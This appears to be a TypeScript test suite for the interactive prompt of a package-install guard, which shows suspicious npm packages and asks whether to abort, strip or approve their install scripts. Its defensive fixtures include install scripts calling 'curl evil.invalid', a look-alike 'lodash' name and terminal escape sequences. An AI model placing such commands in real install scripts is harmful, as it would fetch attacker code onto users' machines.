import { PassThrough } from 'node:stream'
import fc from 'fast-check'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { type Aids, ask as askWith, type Terminal, typesName } from '../../src/ask/ask.ts'
import { isUnfinished, pressedTogether } from '../../src/ask/keys.ts'
import { recommend } from '../../src/judge/recommend.ts'
import type { Decision, Judgement } from '../../src/model.ts'
import { finding, judged, scripted } from '../report/sample.ts'

/** As the guard asks: with advice by the evidence. */
const ask = (judgements: readonly Judgement[], io: Terminal, aids: Aids = {}) =>
  askWith(judgements, io, { advise: (judgement) => recommend(judgement, undefined), ...aids })

type Fake = Terminal & { readonly said: () => string; readonly left: () => number; readonly events: readonly string[] }

/** The same on a terminal that gives keys. */
function withKeys(...bursts: (string | undefined)[]): Fake {
  const { readLine, ...io } = fake(...bursts)
  const readKeys = (text: string) => {
    io.write(text)
    return readLine()
  }
  return { ...io, readLine, readKeys }
}

/** Answers in order, then the end of input. */
function fake(...answers: (string | undefined)[]): Fake {
  const events: string[] = []
  const said: string[] = []
  return {
    columns: 80,
    color: false,
    events,
    said: () => said.join(''),
    left: () => answers.length,
    write: (text) => {
      said.push(text)
      events.push('write')
    },
    drain: () => void events.push('drain'),
    readLine: () => {
      events.push('read')
      return Promise.resolve(answers.shift())
    },
  }
}

const high = finding({ severity: 'high', file: 'index.js', line: 3, excerpt: 'fetch(url)' })
const odd = (id = 'odd@1.0.0', over: Partial<Judgement> = {}) =>
  scripted(id, { verdict: 'ask', findings: [high], ...over })

async function decided(judgements: readonly Judgement[], io: Terminal): Promise<(Decision | undefined)[]> {
  const decisions = await ask(judgements, io)
  return judgements.map((judgement) => decisions.get(judgement))
}

test('a suspicious package is shown with way, evidence and command', async () => {
  const io = fake('')
  await ask(
    [odd('odd@1.0.0', {}), judged('a@1.0.0')].map((one, index) =>
      index === 0 ? { ...one, package: { ...one.package, path: ['a@1.0.0', 'odd@1.0.0'] } } : one,
    ),
    io,
  )
  assert.is(
    io.said(),
    [
      '',
      'SUSPICIOUS 1 of 1: odd@1.0.0',
      '  came in by a@1.0.0 › odd@1.0.0',
      '  HIGH script/downloads-and-runs: downloads a program and runs it',
      '    index.js:3',
      '    | fetch(url)',
      '  wants to run:',
      '    postinstall: node install.js',
      '  recommended: abort; what was found is rare in honest packages',
      '[Enter] abort  [o] allow once  [a] approve (pinned)  [s] install stripped: ',
    ].join('\n'),
  )
})

test('Enter aborts at once', async () => {
  const io = fake('', 'odd')
  assert.equal(await decided([odd()], io), ['abort'])
  assert.is(io.left(), 1)
})

test('each answer takes its key and the name', async () => {
  assert.equal(await decided([odd()], fake('s', 'odd')), ['strip'])
  assert.equal(await decided([odd()], fake(' S ', '  odd ')), ['strip'])
  assert.equal(await decided([odd()], fake('o', 'odd')), ['once'])
  assert.equal(await decided([odd()], fake('a', 'odd')), ['approve'])
})

test('the name alone, or the key alone, lets nothing in', async () => {
  assert.equal(await decided([odd()], fake('odd', 'odd')), ['abort'])
  for (const key of ['s', 'o', 'a']) {
    assert.equal(await decided([odd()], fake(key, '')), ['abort'])
    assert.equal(await decided([odd()], fake(key, 'y', 'yes')), ['abort'])
    assert.equal(await decided([odd()], fake(key, 'ODD', 'odd@1.0.0')), ['abort'])
  }
  assert.equal(await decided([odd()], fake('s', 'od', 'odd')), ['strip'])
})

test('the name is asked for in words that say what follows', async () => {
  const io = fake('a', 'odd')
  await ask([odd()], io)
  assert.match(
    io.said(),
    'It has a high finding. Type its name to run its scripts and record a pinned approval;\nEnter aborts: ',
  )
})

test('a package without scripts can only be installed', async () => {
  const io = fake('s', 'odd')
  assert.equal(await decided([odd('odd@1.0.0', { scripts: {} })], io), ['strip'])
  assert.match(io.said(), '[Enter] abort  [s] install: ')
  assert.equal(await decided([odd('odd@1.0.0', { scripts: {} })], fake('a', 'o')), ['abort'])
})

test('anything that is no key is asked again once, then aborts', async () => {
  assert.equal(await decided([odd()], fake('y', 's', 'odd')), ['strip'])
  const io = fake('y', 'yes', 's')
  assert.equal(await decided([odd()], io), ['abort'])
  assert.is(io.left(), 1)
})

test('scripts of unknown bytes are never offered', async () => {
  const { pin: _, ...unpinned } = odd()
  assert.equal(await decided([unpinned], fake('a', 'o')), ['abort'])
  const io = fake('s', 'odd', 'o')
  assert.equal(await decided([unpinned], io), ['strip'])
  assert.is(io.left(), 1)
})

test('scripts too long to read are never offered', async () => {
  const long = { postinstall: `${'x '.repeat(4000)}; curl evil.invalid` }
  const io = fake('a', 'o')
  assert.equal(await decided([odd('odd@1.0.0', { scripts: long })], io), ['abort'])
  assert.match(io.said(), 'too long to be reviewed here')
  assert.equal(await decided([scripted('a@1.0.0', { scripts: long })], fake('r', 'a', 'o')), ['strip'])
  assert.equal(await decided([scripted('a@1.0.0', { scripts: long })], fake('a')), ['strip'])
})

test('a name of look-alike letters is typed as it is shown', async () => {
  const name = 'l\u043edash'
  assert.equal(await decided([odd(`${name}@1.0.0`)], fake('s', name, name)), ['abort'])
  const io = fake('s', 'l\\u043edash')
  assert.equal(await decided([odd(`${name}@1.0.0`)], io), ['strip'])
  assert.match(io.said(), 'SUSPICIOUS 1 of 1: l\\u043edash@1.0.0')
})

test('approve asks for the name as it is shown, and takes no empty one', async () => {
  const typed = (name: string, ...lines: string[]) => typesName(odd(`${name}@1.0.0`), fake(...lines), 'Name:')
  assert.is(await typed('odd', ' odd '), true)
  assert.is(await typed('', '', ''), false)
  assert.is(await typed('l\u043edash', 'l\u043edash', 'l\\u043edash'), true)
  assert.is(await typed('l\u043edash', 'l\u043edash', 'lodash'), false)
  assert.is.not(await typed('odd'), true)
})

test('an empty name cannot be typed', async () => {
  assert.equal(await decided([odd('@1.0.0')], fake('s', '')), ['abort'])
  assert.equal(await decided([odd(' @1.0.0')], fake('s', ' ', ' ')), ['abort'])
})

test('an abort ends the questions and leaves no suspicious one open', async () => {
  const io = fake('s', 'one', '', 'a')
  assert.equal(await decided([odd('one@1.0.0'), odd('two@1.0.0'), odd('three@1.0.0'), scripted('q@1.0.0')], io), [
    'abort',
    'abort',
    'abort',
    undefined,
  ])
  assert.is(io.left(), 1)
})

test('where something is stopped already nobody is asked', async () => {
  const io = fake('odd')
  assert.equal(await decided([odd(), judged('evil@1.0.0', { verdict: 'abort' })], io), [undefined, undefined])
  assert.is(io.said(), '')
})

test('where nothing is to be decided nobody is asked', async () => {
  const io = fake('a')
  const rest = [
    judged('a@1.0.0'),
    judged('unread@1.0.0', { verdict: 'strip' }),
    scripted('high@1.0.0', { findings: [high] }),
    scripted('done@1.0.0', { verdict: 'allow', approved: true }),
  ]
  assert.equal(
    await decided(rest, io),
    rest.map(() => undefined),
  )
  assert.is(io.said(), '')
})

test('quiet scripts are one question', async () => {
  const io = fake('')
  const second = scripted('b@2.0.0', {
    findings: [finding({ severity: 'low', rule: 'age/too-young', message: 'a day old' })],
  })
  assert.equal(await decided([scripted('a@1.0.0'), second], io), ['strip', 'strip'])
  assert.is(
    io.said(),
    [
      '',
      '2 packages want to run install scripts; none is suspicious:',
      '  a@1.0.0 postinstall: node install.js',
      '  b@2.0.0 postinstall: node install.js',
      '    LOW age/too-young: a day old',
      '[Enter] leave stripped  [a] approve all shown (pinned)',
      '[o] allow all shown once  [r] review one by one  [q] abort: ',
    ].join('\n'),
  )
})

test('a approves all shown', async () => {
  assert.equal(await decided([scripted('a@1.0.0'), scripted('b@1.0.0')], fake('a')), ['approve', 'approve'])
})

test('what the list does not show in full is not approved with it', async () => {
  const long = scripted('long@1.0.0', { scripts: { install: `true ${'x'.repeat(400)}; curl evil.invalid` } })
  const more = Array.from({ length: 20 }, (_, index) => scripted(`p${index}@1.0.0`))
  const io = fake('a')
  const decisions = await decided([long, ...more], io)
  assert.equal(decisions, ['strip', ...Array(15).fill('approve'), ...Array(5).fill('strip')])
  assert.match(io.said(), '… and 6 more, only with [r]')
  assert.not.match(io.said(), 'p15@')
  assert.not.match(io.said(), 'long@')
})

test('an answer that is not understood is asked again once, then leaves all stripped', async () => {
  assert.equal(await decided([scripted('a@1.0.0')], fake('yes', 'all', 'a')), ['strip'])
  assert.equal(await decided([scripted('a@1.0.0')], fake('all', 'a')), ['approve'])
})

test('o allows all shown once, which is no approval', async () => {
  assert.equal(await decided([scripted('a@1.0.0'), scripted('b@1.0.0')], fake('o')), ['once', 'once'])
})

test('a review asks for each, and only a and o let scripts run', async () => {
  const five = ['a', 'b', 'c', 'd', 'e'].map((name) => scripted(`${name}@1.0.0`))
  const io = fake('r', 'a', '', 'o', 'y', 'x', '')
  assert.equal(await decided(five, io), ['approve', 'strip', 'once', 'strip', 'strip'])
  assert.match(io.said(), 'REVIEW 5 of 5: e@1.0.0')
})

test('l leaves the rest stripped', async () => {
  const three = ['a', 'b', 'c'].map((name) => scripted(`${name}@1.0.0`))
  assert.equal(await decided(three, fake('r', 'a', 'l')), ['approve', 'strip', 'strip'])
})

test('what is not recommended is asked one by one after the group', async () => {
  const medium = finding({ severity: 'medium', rule: 'people/new-publisher', message: 'published by another' })
  const all = [
    scripted('plain@1.0.0'),
    scripted('noted@1.0.0', { findings: [medium] }),
    scripted('gap@1.0.0', { gaps: [{ about: 'reach', why: 'it runs what it downloads' }] }),
  ]
  const io = fake('a', 'o', '')
  assert.equal(await decided(all, io), ['approve', 'once', 'strip'])
  assert.match(io.said(), '1 package wants to run install scripts; none is suspicious:\n  plain@1.0.0')
  assert.match(io.said(), 'REVIEW 1 of 2: noted@1.0.0')
  assert.match(io.said(), /recommended: look before you approve; people\/new-publisher: published by\s+another/u)
  assert.match(io.said(), 'recommended: look before you approve; it runs what it downloads')
})

const background = {
  before: ['0.9.0'],
  approved: { version: '0.9.0', by: 'ana', at: '2026-10-02T10:00:00.000Z', sameScripts: true, sameFiles: false },
  earlier: { version: '0.9.0', published: '2026-01-02T10:00:00.000Z' },
}

test('a card says what came before', async () => {
  const io = fake('')
  await ask([odd()], io, { background: () => background })
  assert.match(
    io.said(),
    [
      '  in the lockfile before: 0.9.0',
      '  approved before: 0.9.0 by ana on 2026-10-02; since then its commands are the',
      '    same, what they reach is changed',
      '  an earlier version of which nothing bad is known: 0.9.0 of 2026-01-02',
      '  recommended: abort, or take 0.9.0 instead; what was found is rare in honest',
      '    packages',
    ].join('\n'),
  )
})

test('a card says in a line what changed since the approval', async () => {
  const changed = async () => '2 lines of \u001b[2Jinstall.js; 14 sources for the compiler'
  const io = fake('')
  await ask([odd()], io, { background: () => background, changed })
  assert.match(io.said(), 'comparing it with the version that was approved…\n\nSUSPICIOUS')
  assert.match(io.said(), 'what changed of that: 2 lines of \\u001b[2Jinstall.js; 14 sources for the')
  const other = fake('')
  await ask([odd()], other, { background: () => background, changed: async () => '' })
  assert.match(other.said(), '  what changed of that: nothing that was followed\n')
})

test('what cannot be followed is not said to be the same or changed', async () => {
  const io = fake('')
  const approved = { ...background.approved, sameFiles: undefined }
  await ask([odd()], io, { background: () => ({ ...background, approved }) })
  assert.match(io.said(), /what they reach\s+cannot be followed/u)
})

const files = (...lines: string[]) =>
  ({ state: 'known', value: [{ path: 'install.js', note: 'reached by install', lines }] }) as const

test('the code is shown in pages, and the question comes again', async () => {
  const lines = Array.from({ length: 30 }, (_, index) => `line ${index + 1}`)
  const io = fake('c', '', 'a', 'odd')
  assert.is((await ask([odd()], io, { code: async () => files(...lines) })).size, 1)
  assert.match(io.said(), '=== install.js (reached by install)\n    1 | line 1\n')
  assert.match(io.said(), '[Enter] more (12 lines)  [b] back: ')
  assert.match(io.said(), '   30 | line 30\n[Enter] abort')
  assert.match(io.said(), '[c] show the code\n[s] install stripped: ')
})

test('q leaves the pages as in every pager, and the question comes again', async () => {
  const lines = Array.from({ length: 30 }, (_, index) => `line ${index + 1}`)
  const io = fake('c', 'q', 'a', 'odd')
  assert.is((await ask([odd()], io, { code: async () => files(...lines) })).size, 1)
  assert.not.match(io.said(), 'line 30')
  assert.not.match(io.said(), 'Not understood')
})

test('looking at the code decides nothing', async () => {
  const aids = { code: async () => files('x'), difference: async () => files('-x', '+y') }
  assert.equal([...(await ask([odd()], fake('c', 'd', ''), aids)).values()], ['abort'])
  assert.equal([...(await ask([odd()], fake('c'), aids)).values()], ['abort'])
  assert.equal([...(await ask([scripted('a@1.0.0')], fake('r', 'd', ''), aids)).values()], ['strip'])
})

test('no difference is offered where no other version is known', async () => {
  const aids = { difference: async () => files('x'), background: () => ({ before: [] }) }
  const io = fake('d', 'd')
  await ask([odd()], io, aids)
  assert.not.match(io.said(), '[d]')
  const other = fake('')
  await ask([odd()], other, { ...aids, background: () => ({ before: ['0.9.0'] }) })
  assert.match(other.said(), '[d] show the difference')
})

test('a difference is shown as it is laid out, escaped and within the columns', async () => {
  const io = fake('d', '')
  const lines = ['+ fetch(x)', `- \u001b[2J${'y'.repeat(100)}`]
  await ask([odd()], io, {
    difference: async () => ({ state: 'known', value: [{ path: 'what differs', isLaidOut: true, lines }] }),
  })
  assert.match(io.said(), '=== what differs\n+ fetch(x)\n- \\u001b[2Jyyy')
  assert.ok(
    io
      .said()
      .split('\n')
      .every((line) => line.length <= 80),
  )
})

test('Ctrl-C on a page of code stops everything', async () => {
  const long = Array.from({ length: 100 }, () => 'x')
  const io = fake('c', '')
  assert.equal(
    [...(await ask([odd(), scripted('a@1.0.0')], io, { code: async () => files(...long) })).values()],
    ['abort', 'abort'],
  )
})

test('code that cannot be had says why', async () => {
  const io = fake('c', '')
  await ask([odd()], io, { code: async () => ({ state: 'unknown', why: 'no \u001b[2Janswer' }) })
  assert.match(io.said(), 'It cannot be shown: no \\u001b[2Janswer\n')
})

test('code hides nothing: blanks stay, long lines go on below, what acts is written out', async () => {
  const io = fake('c', 'b', '')
  await ask([odd()], io, { code: async () => files(`a${' '.repeat(100)}b\u202ec`, '\u8a9e'.repeat(60)) })
  const shown = io
    .said()
    .split('\n')
    .filter((line) => / \| /u.test(line) && !line.includes('fetch'))
  assert.is(shown[0], `    1 | a${' '.repeat(71)}`)
  assert.is(shown[1], `      | ${' '.repeat(29)}b\\u202ec`)
  assert.is(shown[2], `    2 | ${'\u8a9e'.repeat(36)}`)
  assert.is(shown[3], `      | ${'\u8a9e'.repeat(24)}`)
})

test('q stops everything, whatever was answered before', async () => {
  const all = [odd(), scripted('a@1.0.0'), scripted('b@1.0.0')]
  assert.equal(await decided(all, fake('a', 'odd', 'q')), ['abort', 'abort', 'abort'])
  assert.equal(await decided(all, fake('a', 'odd', 'r', 'a', 'q')), ['abort', 'abort', 'abort'])
})

test('the end of input or Ctrl-C stops everything, at every question', async () => {
  const all = [odd(), scripted('a@1.0.0'), scripted('b@1.0.0')]
  const answers = ['a', 'odd', 'r', 'a', 'a']
  for (let count = 0; count < answers.length; count++) {
    assert.equal(await decided(all, fake(...answers.slice(0, count))), ['abort', 'abort', 'abort'], `after ${count}`)
  }
  assert.equal(await decided(all, fake(...answers)), ['approve', 'approve', 'approve'])
})

test('input from before a question is thrown away before each', async () => {
  const io = fake('x', 'a', 'x', 'odd', 'x', 'r', 'x', 'a')
  await ask([odd(), scripted('a@1.0.0')], io)
  const order = io.events.join(' ')
  assert.is(order.split('read').length - 1, 8)
  assert.is(order.split('drain write read').length - 1, 8)
})

test('no answers but the right ones let a script run', async () => {
  const word = fc.constantFrom('', 'a', 's', 'o', 'y', 'r', 'n', 'q', 'odd', 'yes', 'ok', 'all', '\u001b[A')
  await fc.assert(
    fc.asyncProperty(fc.array(word, { maxLength: 8 }), async (answers) => {
      const [decision] = await decided([odd()], fake(...answers))
      assert.ok(decision === 'abort' || (answers.includes('odd') && /[soa]/u.test(answers.join())))
    }),
  )
})

test('one key answers, without Enter, and is shown', async () => {
  const io = withKeys('s', 'odd', 'a')
  assert.equal(await decided([odd(), scripted('a@1.0.0')], io), ['strip', 'approve'])
  assert.match(io.said(), /install stripped: s\nIt has a high finding/u)
  assert.match(io.said(), /\[q\] abort: a\n$/u)
  assert.equal(await decided([odd()], withKeys('\r')), ['abort'])
  assert.equal(await decided([scripted('a@1.0.0')], withKeys('\n')), ['strip'])
  assert.equal(await decided([scripted('a@1.0.0')], withKeys('O')), ['once'])
})

test('Esc, and what ends the input, stop everything', async () => {
  for (const end of ['\u001b', undefined, 'q']) {
    const io = withKeys('s', 'odd', end, 'a')
    assert.equal(await decided([odd(), scripted('a@1.0.0')], io), ['abort', 'abort'])
    assert.is(io.left(), 1)
  }
})

test('sequences are no keys: the question stays', async () => {
  for (const sequence of ['\u001b[A', '\u001bOA', '\u001b[24;80R', '\u001b]la\u001b\\', '\u001b[?1;2ca', '\u001ba']) {
    const io = withKeys(sequence, sequence, sequence, 'a')
    assert.equal(await decided([scripted('a@1.0.0')], io), ['approve'])
    assert.not.match(io.said(), 'Not understood')
  }
})

test('several keys at once answer nothing, and none of them is shown', async () => {
  for (const many of ['aa', 'a\r', '\ra', 'a\u001b[A', '\r\n', '\u00e4', ' a', '']) {
    const io = withKeys(many, many)
    assert.equal(await decided([scripted('a@1.0.0')], io), ['strip'], JSON.stringify(many))
    assert.match(io.said(), /\[q\] abort: \nNot understood\. /u)
  }
})

test('whatever is pressed, only the one key lets a script run', async () => {
  const burst = fc.oneof(fc.string({ maxLength: 4 }), fc.constantFrom('\u001b[A', '\u001bP', 'a\r', '\r', 'l'))
  await fc.assert(
    fc.asyncProperty(fc.array(burst, { maxLength: 5 }), async (bursts) => {
      const [decision] = await decided([scripted('a@1.0.0')], withKeys(...bursts))
      assert.ok(decision === 'strip' || decision === 'abort' || bursts.some((keys) => /^[aor]$/iu.test(keys)))
    }),
  )
})

test('what follows at once belongs together, however it is cut', async () => {
  for (const [first, ...more] of [['a', 'a'], ['a', '\r'], ['\u001b', '[A'], ['\u001b]l', 'a', '\u0007'], ['a']]) {
    const input = new PassThrough({ encoding: 'utf8' })
    const pressed = pressedTogether(input, new Promise(() => undefined))
    input.write(first)
    for (const next of more) {
      await new Promise((resolve) => setImmediate(resolve))
      input.write(next)
    }
    assert.is(await pressed, [first, ...more].join(''))
  }
})

test('the rest of a sequence may take its time, Ctrl-C none', async () => {
  const input = new PassThrough({ encoding: 'utf8' })
  const pressed = pressedTogether(input, new Promise(() => undefined), { together: 1, apart: 100_000 })
  input.write('\u001b[1;')
  // Longer than what is not a sequence is given; nothing waits for it to be over.
  await new Promise((resolve) => setTimeout(resolve, 20))
  input.write('2A')
  assert.is(await pressed, '\u001b[1;2A')
  const other = new PassThrough({ encoding: 'utf8' })
  other.write('a\u0003')
  assert.is(await pressedTogether(other, new Promise(() => undefined)), undefined)
})

test('a sequence is unfinished until its last byte', () => {
  const sequences = ['\u001b[A', '\u001b[?1;2c', '\u001b[1;5 q', '\u001bOA', '\u001b]l a\u0007', '\u001bP1$r0m\u001b\\']
  for (const sequence of sequences) {
    for (let length = 1; length < sequence.length; length++) {
      assert.ok(isUnfinished(sequence.slice(0, length)), JSON.stringify(sequence.slice(0, length)))
    }
    assert.not.ok(isUnfinished(sequence), JSON.stringify(sequence))
    assert.ok(isUnfinished(`${sequence}\u001b[`))
  }
  for (const keys of ['a', '\r', 'paste', '\u001ba']) assert.not.ok(isUnfinished(keys))
})

test('hostile text cannot act on the terminal', async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: 'binary' }), async (text) => {
      const evil = finding({ severity: 'high', message: text, file: text, excerpt: text })
      const io = fake('c', '', '')
      const one = { version: text, by: text, at: text, sameScripts: true, sameFiles: true }
      const shown = { state: 'known', value: [{ path: text, note: text, lines: [text] }] } as const
      await ask([odd(`${text}@1`, { findings: [evil], scripts: { [text]: text } })], io, {
        background: () => ({ before: [text], approved: one, earlier: { version: text, published: text } }),
        code: async () => shown,
      })
      const quiet = fake('r', '')
      await ask(
        [scripted(`${text}@1`, { findings: [{ ...evil, severity: 'low' }], scripts: { install: text } })],
        quiet,
      )
      assert.not.match(io.said() + quiet.said(), /[^\P{C}\n]|[\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u)
    }),
  )
})

test.run()
